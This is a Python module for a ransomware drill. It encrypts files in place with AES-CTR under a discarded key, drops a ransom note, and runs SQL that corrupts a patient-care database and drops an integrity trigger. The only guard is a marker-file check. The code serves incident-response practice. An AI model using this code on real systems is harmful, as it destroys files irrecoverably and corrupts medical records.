"""The simulated attack: what somebody does with the rights of the server, in the drill's folder.

It encrypts under a key that is thrown away. It refuses to touch anything outside the folder that
the drill made for it.
"""

import contextlib
import os
import sqlite3
from collections.abc import Callable, Iterable
from contextlib import closing
from pathlib import Path
from typing import Final

from cryptography.hazmat.primitives.ciphers import Cipher, CipherContext
from cryptography.hazmat.primitives.ciphers.algorithms import AES
from cryptography.hazmat.primitives.ciphers.modes import CTR

#: Lies in the folder of a drill; without it nothing is attacked.
MARKER: Final = "exercice.txt"
_BLOCK: Final = 4_096
_NOTE: Final = "HOW_TO_DECRYPT.txt"

#: What poisoned rows are called, and how they are made inside a database that stays valid.
POISONED: Final = "X"
POISON: Final = (
    "UPDATE care_patient SET birth_name = 'X', mobile_phone = ''",
    "DROP TRIGGER care_note_never_changes",
    "UPDATE care_note SET text = 'X' WHERE rowid % 3 = 0",
)

Pick = Callable[[int], Iterable[int]]


class NotADrill(Exception):
    """The folder was not made by a drill."""


def every_block(size: int) -> Iterable[int]:
    """Return where each block of a file begins."""
    return range(0, size, _BLOCK)


def sixteenth(size: int) -> Iterable[int]:
    """Return where each sixteenth block begins: enough to ruin a file, sixteen times faster."""
    return range(0, size, 16 * _BLOCK)


def encrypt(ground: Path, paths: Iterable[Path], pick: Pick = every_block) -> int:
    """Encrypt files of a drill in place; return how many. Raises: NotADrill, OSError."""
    _check(ground)
    seal = Cipher(AES(os.urandom(32)), CTR(os.urandom(16))).encryptor()
    count = 0
    for path in paths:
        if not path.resolve().is_relative_to(ground.resolve()):
            raise NotADrill(path)
        # What the practice takes away meanwhile is gone already.
        with contextlib.suppress(FileNotFoundError):
            path.chmod(0o600)
            _encrypt(path, pick, seal)
            count += 1
    return count


def _encrypt(path: Path, pick: Pick, seal: CipherContext) -> None:
    with path.open("r+b") as file:
        for at in pick(path.stat().st_size):
            file.seek(at)
            block = file.read(_BLOCK)
            file.seek(at)
            file.write(seal.update(block))


def everything(folder: Path) -> list[Path]:
    """Return every file below a folder, as an attacker walks through it."""
    return sorted(path for path in folder.rglob("*") if path.is_file() and not path.is_symlink())


def leave_note(ground: Path, folder: Path) -> None:
    """Leave what attackers leave."""
    _check(ground)
    (folder / _NOTE).write_text("All your files are encrypted.\n")


def poison(ground: Path, database: Path, statements: Iterable[str]) -> int:
    """Change rows inside a database that stays valid; return how many."""
    _check(ground)
    with closing(sqlite3.connect(database, timeout=60)) as connection, connection:
        return sum(connection.execute(words).rowcount for words in statements)


def _check(ground: Path) -> None:
    if not (ground / MARKER).is_file():
        raise NotADrill(ground)
